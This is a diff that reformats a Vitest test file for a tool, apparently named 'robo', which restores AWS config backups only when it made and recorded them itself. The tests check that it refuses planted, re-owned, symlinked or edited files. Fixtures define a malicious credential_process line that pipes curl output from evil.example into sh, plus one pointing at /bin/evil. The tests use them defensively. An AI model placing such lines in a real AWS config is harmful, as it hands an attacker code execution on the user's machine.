@@ -5,7 +5,20 @@
  * user) is left out of the list, and refused with exit 2 and the reason when
  * named. In-process, on the core functions; backups.e2e.test.ts runs the binary.
  */
-import { appendFileSync, chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  appendFileSync,
+  chmodSync,
+  chownSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  readdirSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { listBackups, restoreBackup } from '../src/backups.js';
@@ -17,7 +30,8 @@ import { sandboxes, type Sandbox } from './helpers/sandbox.js';
 
 const sandbox = sandboxes();
 const CURRENT = '[default]\nregion = eu-north-1\n';
-const GOOD = '# >>> robo aws.config - team platform - generated, local edits are overwritten\n[okta]\n# <<< robo aws.config\n[default]\nregion = eu-west-1\n';
+const GOOD =
+  '# >>> robo aws.config - team platform - generated, local edits are overwritten\n[okta]\n# <<< robo aws.config\n[default]\nregion = eu-west-1\n';
 const EVIL = '[default]\ncredential_process = /bin/sh -c "curl evil.example | sh"\n';
 const HOUR_AHEAD = new Date(Date.now() + 3_600_000);
 
@@ -49,7 +63,8 @@ function setup(): Setup {
   };
 }
 
-const listed = async (box: Sandbox, env: NodeJS.ProcessEnv = box.env) => (await listBackups(env)).backups.map((backup) => backup.path);
+const listed = async (box: Sandbox, env: NodeJS.ProcessEnv = box.env) =>
+  (await listBackups(env)).backups.map((backup) => backup.path);
 const restore = (box: Sandbox, backup?: string) => restoreBackup({ backup, env: box.env, cwd: box.home });
 
 describe("robo's own backups", () => {
@@ -76,58 +91,103 @@ describe("robo's own backups", () => {
     const { box, place, backup } = setup();
     const file = await backup(GOOD);
     const records = parseRecords(readFileSync(recordsFile(place.stateDir), 'utf8'));
-    expect(records).toEqual([{ backup: file, target: box.awsConfig, team: 'platform', time: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string, size: Buffer.byteLength(GOOD), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string }]);
+    expect(records).toEqual([
+      {
+        backup: file,
+        target: box.awsConfig,
+        team: 'platform',
+        time: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
+        size: Buffer.byteLength(GOOD),
+        sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
+      },
+    ]);
     expect(treeState(box.stateDir)['backups.jsonl']).toMatch(/^file 600 /);
   });
 });
 
 describe('anything else is not listed, and refused when named (exit 2), changing nothing', () => {
   const cases: Array<[string, (s: Setup) => Promise<string>, RegExp]> = [
-    ["the review's file: another user's, mode 0644, dated ahead, not recorded", async (s) => {
-      const file = s.planted(EVIL);
-      chmodSync(file, 0o644);
-      chownSync(file, 65534, 65534);
-      utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
-      return file;
-    }, /it belongs to uid 65534, not to you \(uid \d+\)/],
-    ["a recorded backup now owned by another user", async (s) => {
-      const file = await s.backup(EVIL);
-      chownSync(file, 65534, 65534);
-      return file;
-    }, /it belongs to uid 65534/],
-    ['a recorded backup with mode 0644', async (s) => {
-      const file = await s.backup(EVIL);
-      chmodSync(file, 0o644);
-      return file;
-    }, /it has mode 0644; robo makes its backups 0600/],
-    ['a symlink where a recorded backup was', async (s) => {
-      const file = await s.backup(EVIL);
-      const elsewhere = path.join(s.box.root, 'elsewhere');
-      renameSync(file, elsewhere);
-      symlinkSync(elsewhere, file);
-      return file;
-    }, /it is a symbolic link, not a backup robo made/],
-    ['a folder with a backup’s name', async (s) => {
-      const file = path.join(s.box.backupDir, `awsconfig-${'e'.repeat(32)}`);
-      mkdirSync(file, { recursive: true });
-      return file;
-    }, /it is not a regular file/],
-    ['a file of yours, mode 0600, dated ahead, not recorded', async (s) => {
-      const file = s.planted(EVIL);
-      utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
-      return file;
-    }, /it is not in robo's record of the backups it made; .* by hand \(docs\/config-file.md, "Restoring a backup"\)/],
-    ['a backup robo made of another config (AWS_CONFIG_FILE=/tmp/try/config)', async (s) => s.backup(EVIL, path.join(s.box.root, 'try', 'config')), /it is a backup of \/\S+\/try\/config, not of \/\S+\/home\/\.aws\/config/],
-    ['a recorded backup edited since', async (s) => {
-      const file = await s.backup(GOOD);
-      appendFileSync(file, '[profile x]\ncredential_process = /bin/evil\n');
-      return file;
-    }, /it changed since robo made it at \d{4}-\d\d-\d\dT[\d:.]+Z: its size or sha256 differs from robo's record/],
-    ['a recorded backup edited since, same size', async (s) => {
-      const file = await s.backup(GOOD);
-      writeFileSync(file, GOOD.replace('eu-west-1', 'eu-east-9'));
-      return file;
-    }, /it changed since robo made it/],
+    [
+      "the review's file: another user's, mode 0644, dated ahead, not recorded",
+      async (s) => {
+        const file = s.planted(EVIL);
+        chmodSync(file, 0o644);
+        chownSync(file, 65534, 65534);
+        utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
+        return file;
+      },
+      /it belongs to uid 65534, not to you \(uid \d+\)/,
+    ],
+    [
+      'a recorded backup now owned by another user',
+      async (s) => {
+        const file = await s.backup(EVIL);
+        chownSync(file, 65534, 65534);
+        return file;
+      },
+      /it belongs to uid 65534/,
+    ],
+    [
+      'a recorded backup with mode 0644',
+      async (s) => {
+        const file = await s.backup(EVIL);
+        chmodSync(file, 0o644);
+        return file;
+      },
+      /it has mode 0644; robo makes its backups 0600/,
+    ],
+    [
+      'a symlink where a recorded backup was',
+      async (s) => {
+        const file = await s.backup(EVIL);
+        const elsewhere = path.join(s.box.root, 'elsewhere');
+        renameSync(file, elsewhere);
+        symlinkSync(elsewhere, file);
+        return file;
+      },
+      /it is a symbolic link, not a backup robo made/,
+    ],
+    [
+      'a folder with a backup’s name',
+      async (s) => {
+        const file = path.join(s.box.backupDir, `awsconfig-${'e'.repeat(32)}`);
+        mkdirSync(file, { recursive: true });
+        return file;
+      },
+      /it is not a regular file/,
+    ],
+    [
+      'a file of yours, mode 0600, dated ahead, not recorded',
+      async (s) => {
+        const file = s.planted(EVIL);
+        utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
+        return file;
+      },
+      /it is not in robo's record of the backups it made; .* by hand \(docs\/config-file.md, "Restoring a backup"\)/,
+    ],
+    [
+      'a backup robo made of another config (AWS_CONFIG_FILE=/tmp/try/config)',
+      async (s) => s.backup(EVIL, path.join(s.box.root, 'try', 'config')),
+      /it is a backup of \/\S+\/try\/config, not of \/\S+\/home\/\.aws\/config/,
+    ],
+    [
+      'a recorded backup edited since',
+      async (s) => {
+        const file = await s.backup(GOOD);
+        appendFileSync(file, '[profile x]\ncredential_process = /bin/evil\n');
+        return file;
+      },
+      /it changed since robo made it at \d{4}-\d\d-\d\dT[\d:.]+Z: its size or sha256 differs from robo's record/,
+    ],
+    [
+      'a recorded backup edited since, same size',
+      async (s) => {
+        const file = await s.backup(GOOD);
+        writeFileSync(file, GOOD.replace('eu-west-1', 'eu-east-9'));
+        return file;
+      },
+      /it changed since robo made it/,
+    ],
   ];
   it.each(cases)('%s', async (_name, make, reason) => {
     const s = setup();
@@ -135,7 +195,12 @@ describe('anything else is not listed, and refused when named (exit 2), changing
     const file = await make(s);
     expect(await listed(s.box)).toEqual([genuine]);
     const before = treeState(s.box.root);
-    await expect(restore(s.box, file)).rejects.toMatchObject({ exitCode: 2, message: expect.stringMatching(new RegExp(`^refusing to restore ${file}: ${reason.source}.*; nothing was restored$`)) as string });
+    await expect(restore(s.box, file)).rejects.toMatchObject({
+      exitCode: 2,
+      message: expect.stringMatching(
+        new RegExp(`^refusing to restore ${file}: ${reason.source}.*; nothing was restored$`),
+      ) as string,
+    });
     expect(treeState(s.box.root)).toEqual(before);
     // Without a name, the newest of robo's own is restored.
     expect(await restore(s.box)).toMatchObject({ restored: genuine, changed: true });
@@ -160,7 +225,10 @@ describe('anything else is not listed, and refused when named (exit 2), changing
     const s = setup();
     s.planted(GOOD);
     await s.backup(GOOD, '/elsewhere/config');
-    await expect(restore(s.box)).rejects.toMatchObject({ exitCode: 2, message: expect.stringContaining(`no robo backups of ${s.box.awsConfig}`) as string });
+    await expect(restore(s.box)).rejects.toMatchObject({
+      exitCode: 2,
+      message: expect.stringContaining(`no robo backups of ${s.box.awsConfig}`) as string,
+    });
     expect(readFileSync(s.box.awsConfig, 'utf8')).toBe(CURRENT);
   });
 });
@@ -169,20 +237,39 @@ describe("robo's record", () => {
   it('keeps every record when backups are made at once, and drops those whose backup is gone', async () => {
     const s = setup();
     const other = path.join(s.box.root, 'other-config');
-    const made = await Promise.all(Array.from({ length: 8 }, (_, index) => s.backup(`${GOOD}# ${index}\n`, index % 2 === 0 ? s.box.awsConfig : other)));
+    const made = await Promise.all(
+      Array.from({ length: 8 }, (_, index) =>
+        s.backup(`${GOOD}# ${index}\n`, index % 2 === 0 ? s.box.awsConfig : other),
+      ),
+    );
     const records = () => parseRecords(readFileSync(recordsFile(s.place.stateDir), 'utf8'));
-    expect(records().map((record) => record.backup).sort()).toEqual([...made].sort());
+    expect(
+      records()
+        .map((record) => record.backup)
+        .sort(),
+    ).toEqual([...made].sort());
     expect((await listed(s.box)).sort()).toEqual(made.filter((_, index) => index % 2 === 0).sort());
 
     // /tmp emptied at reboot: a record whose backup is gone is not listed, and the next write drops it.
     for (const file of made.slice(0, 3)) rmSync(file);
     expect((await listed(s.box)).sort()).toEqual([made[4], made[6]].sort());
     const next = await s.backup(GOOD);
-    expect(records().map((record) => record.backup).sort()).toEqual([...made.slice(3), next].sort());
+    expect(
+      records()
+        .map((record) => record.backup)
+        .sort(),
+    ).toEqual([...made.slice(3), next].sort());
   });
 
   it('skips a line that is not a whole, valid record', () => {
-    const valid = { backup: '/tmp/awsconfig-0', target: '/h/.aws/config', team: null, time: '2026-01-01T00:00:00.000Z', size: 1, sha256: 'a'.repeat(64) };
+    const valid = {
+      backup: '/tmp/awsconfig-0',
+      target: '/h/.aws/config',
+      team: null,
+      time: '2026-01-01T00:00:00.000Z',
+      size: 1,
+      sha256: 'a'.repeat(64),
+    };
     const lines = [
       valid,
       { ...valid, backup: 'relative/awsconfig-0' },
@@ -200,7 +287,12 @@ describe("robo's record", () => {
     // The state folder's place is taken by a file.
     mkdirSync(path.dirname(s.place.stateDir), { recursive: true });
     writeFileSync(s.place.stateDir, 'not a folder');
-    await expect(s.backup(GOOD)).rejects.toMatchObject({ exitCode: 5, message: expect.stringContaining(`cannot record the backup of the aws config in ${recordsFile(s.place.stateDir)}`) as string });
+    await expect(s.backup(GOOD)).rejects.toMatchObject({
+      exitCode: 5,
+      message: expect.stringContaining(
+        `cannot record the backup of the aws config in ${recordsFile(s.place.stateDir)}`,
+      ) as string,
+    });
     expect(existsSync(s.box.backupDir) ? readdirSync(s.box.backupDir) : []).toEqual([]);
   });
 });
